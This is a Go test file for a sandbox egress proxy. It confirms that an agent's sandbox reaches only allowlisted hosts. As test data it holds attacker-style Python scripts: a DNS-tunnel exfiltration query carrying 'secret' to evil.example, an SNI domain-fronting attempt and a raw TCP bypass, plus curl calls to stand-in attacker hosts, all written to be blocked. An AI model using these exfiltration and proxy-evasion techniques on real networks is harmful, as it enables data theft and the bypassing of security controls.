package tools

import (
	"context"
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/corralhq/corral/egress"
	"github.com/corralhq/corral/internal/testenv"
	"github.com/corralhq/corral/policy"
	"github.com/corralhq/corral/sandbox"
	"github.com/corralhq/corral/sandbox/docker"
)

// egressFixture is a session whose sandbox reaches the network only through
// an egress proxy, and upstream servers on the host's loopback that the proxy
// reaches by --add-host entries (httptest's certificate names example.com).
type egressFixture struct {
	s        *Session
	ws       string
	events   *eventLog
	tlsPort  int
	httpPort int
	looked   *lookups
	records  *recordLog
}

// lookups records the names the proxy resolved on the host.
type lookups struct {
	mu    sync.Mutex
	names []string
}

func (l *lookups) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	l.mu.Lock()
	l.names = append(l.names, host)
	l.mu.Unlock()
	switch host {
	case "private.example":
		return []netip.Addr{netip.MustParseAddr("10.1.2.3")}, nil
	case "loopback.example":
		return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

func (l *lookups) saw(name string) bool {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, n := range l.names {
		if strings.Contains(n, name) {
			return true
		}
	}
	return false
}

type recordLog struct {
	mu   sync.Mutex
	recs []egress.Record
}

func (r *recordLog) add(rec egress.Record) {
	r.mu.Lock()
	r.recs = append(r.recs, rec)
	r.mu.Unlock()
}

func (r *recordLog) find(host string, verdict string) (egress.Record, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, rec := range r.recs {
		if rec.Host == host && rec.Verdict == verdict {
			return rec, true
		}
	}
	return egress.Record{}, false
}

// allowAll stands for a user who approves every command: the network, not
// the policy, is under test.
type allowAll struct{}

func (allowAll) Classify(command string) policy.Verdict {
	return policy.Verdict{Decision: policy.Allow, Reason: "test"}
}

func newEgressFixture(t *testing.T, runtime string, stream bool) *egressFixture {
	t.Helper()
	testenv.NeedsDocker(t)
	f := &egressFixture{looked: &lookups{}, records: &recordLog{}}
	tlsSrv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "hello over tls %s\n", r.URL.Path)
	}))
	t.Cleanup(tlsSrv.Close)
	httpSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "hello over http %s\n", r.URL.Path)
	}))
	t.Cleanup(httpSrv.Close)
	f.tlsPort = tlsSrv.Listener.Addr().(*net.TCPAddr).Port
	f.httpPort = httpSrv.Listener.Addr().(*net.TCPAddr).Port
	calls := &egress.Calls{}
	var sess atomic.Pointer[Session]
	proxy, err := egress.New(egress.Config{
		Allow:    []string{"example.com:*", "private.example", "loopback.example"},
		Deny:     []string{"evil.example"},
		Hosts:    []string{"example.com:127.0.0.1", "other.example:127.0.0.1"},
		Resolver: f.looked,
		CallID:   calls.Current,
		Record: func(r egress.Record) {
			calls.Observe(r)
			f.records.add(r)
			if s := sess.Load(); s != nil {
				s.EmitNetwork(r)
			}
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { proxy.Close() })
	var box *docker.Container
	f.s, f.ws = newTestSession(t, nil, func(o *Options) {
		f.events = &eventLog{}
		o.Events = f.events
		o.Policy = allowAll{}
		o.Network = calls
		box, err = docker.New(sandbox.Config{
			Workspace: o.Workspace, Image: testenv.Image, Agent: testenv.Agent(t),
			Memory: 512 << 20, Runtime: runtime, Egress: proxy, EgressStream: stream,
			Env: []string{"CURL_CA_BUNDLE=" + filepath.Join(o.Workspace, "ca.pem")},
		})
		if err != nil {
			t.Fatal(err)
		}
		o.Sandbox = box
	})
	sess.Store(f.s)
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		box.Close(ctx)
	})
	ca := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: tlsSrv.Certificate().Raw})
	if err := os.WriteFile(filepath.Join(f.ws, "ca.pem"), ca, 0o644); err != nil {
		t.Fatal(err)
	}
	return f
}

// The attacker's steps are scripts the policy cannot see into.
const (
	rawTCP = `import socket, sys
try:
    socket.create_connection(("1.1.1.1", 80), timeout=5)
    print("CONNECTED")
except OSError as e:
    print("no connection:", e)
`
	udpDNS = `import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x07example\x00\x00\x01\x00\x01", ("8.8.8.8", 53))
    s.settimeout(3)
    print("ANSWER", s.recv(512))
except OSError as e:
    print("no datagram:", e)
`
	// CONNECT to an allowed name, then a ClientHello for another one: what a
	// domain-fronting exfiltration does.
	sniFront = `import socket, ssl, sys
port = int(sys.argv[1])
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT example.com:%d HTTP/1.1\r\nHost: example.com\r\n\r\n" % port)
print(s.recv(1024).split(b"\r\n")[0].decode())
ctx = ssl.create_default_context(cafile="ca.pem")
ctx.check_hostname = False
try:
    t = ctx.wrap_socket(s, server_hostname="other.example")
    print("HANDSHAKE DONE")
except (OSError, ssl.SSLError) as e:
    print("refused:", e)
`
)

func testEgress(t *testing.T, runtime string, stream bool) {
	f := newEgressFixture(t, runtime, stream)
	for name, content := range map[string]string{"raw.py": rawTCP, "udp.py": udpDNS, "front.py": sniFront} {
		mustOK(t, f.s, "write", m{"path": name, "content": content})
	}

	check := func(command string, wantExit int, facts ...string) Result {
		t.Helper()
		r := bash(t, f.s, command, 60)
		d := bashDetails(t, r)
		if !d.Ran || (wantExit >= 0 && d.ExitCode != wantExit) || (wantExit < 0 && d.ExitCode == 0) {
			t.Errorf("%s: ran %v, exit %d, want %d:\n%s", command, d.Ran, d.ExitCode, wantExit, r.Content)
		}
		wantFacts(t, r.Content, facts...)
		return r
	}
	// Allowed names work, over https (CONNECT), plain http and SOCKS5.
	check(fmt.Sprintf("curl -sS https://example.com:%d/a", f.tlsPort), 0, "hello over tls /a")
	check(fmt.Sprintf("curl -sS http://example.com:%d/b", f.httpPort), 0, "hello over http /b")
	check(fmt.Sprintf("curl -sS --proxy socks5h://127.0.0.1:1080 https://example.com:%d/c", f.tlsPort), 0, "hello over tls /c")
	if rec, ok := f.records.find("example.com", egress.Allowed); !ok || rec.Addr == "" || rec.BytesIn == 0 || rec.CallID == "" {
		t.Errorf("no full record of an allowed connection: %+v", rec)
	}
	// Refusals the model can act on.
	check("curl -sS https://nowhere.example/", -1, "Network: blocked nowhere.example:443 (not in the allowlist)")
	check("curl -sS http://evil.example/", 0, "corral: blocked evil.example:80 (denied by evil.example)", "Network: blocked evil.example:80 (denied by evil.example)")
	check(fmt.Sprintf("curl -sS https://127.0.0.1:%d/", f.tlsPort), -1, "(a raw address not in an allowed range)")
	check("curl -sS https://private.example/", -1, "Network: blocked private.example:443 (resolves to a private address, 10.1.2.3)")
	check("curl -sS https://loopback.example/", -1, "(resolves to a loopback address, 127.0.0.1)")
	check(fmt.Sprintf("python3 front.py %d", f.tlsPort), 0, "200 Connection established", "refused:",
		"Network: blocked example.com:", "(TLS server name other.example does not match the CONNECT host example.com)")
	// Nothing bypasses the proxy: no route, no DNS.
	check(fmt.Sprintf("NO_PROXY='*' no_proxy='*' curl -sS https://example.com:%d/", f.tlsPort), -1, "Could not resolve host")
	check("python3 raw.py", 0, "no connection:")
	check("python3 udp.py", 0, "no datagram:")
	check("getent hosts secret.evil.example", 2)
	check("curl -sS https://secret.nowhere.example/", -1, "not in the allowlist")
	if f.looked.saw("secret") || f.looked.saw("nowhere") {
		t.Errorf("a name that is not allowed was looked up on the host: %v", f.looked.names)
	}
	var network int
	for _, e := range f.events.all() {
		if e.Type == EventNetwork && e.Network != nil {
			network++
		}
	}
	if network == 0 {
		t.Error("no network events")
	}
}

func TestEgress(t *testing.T) { testEgress(t, "", false) }

// The relay over the agent's stream, which the Kubernetes backend and gVisor
// without --host-uds use, keeps every promise too.
func TestEgressStream(t *testing.T) { testEgress(t, "", true) }

func TestEgressGVisor(t *testing.T) {
	testenv.NeedsDocker(t)
	out, _ := exec.Command("docker", "info", "--format", "{{json .Runtimes}}").Output()
	if !strings.Contains(string(out), `"runsc"`) {
		t.Skip("runsc is not registered with the Docker engine")
	}
	testEgress(t, "runsc", false)
}
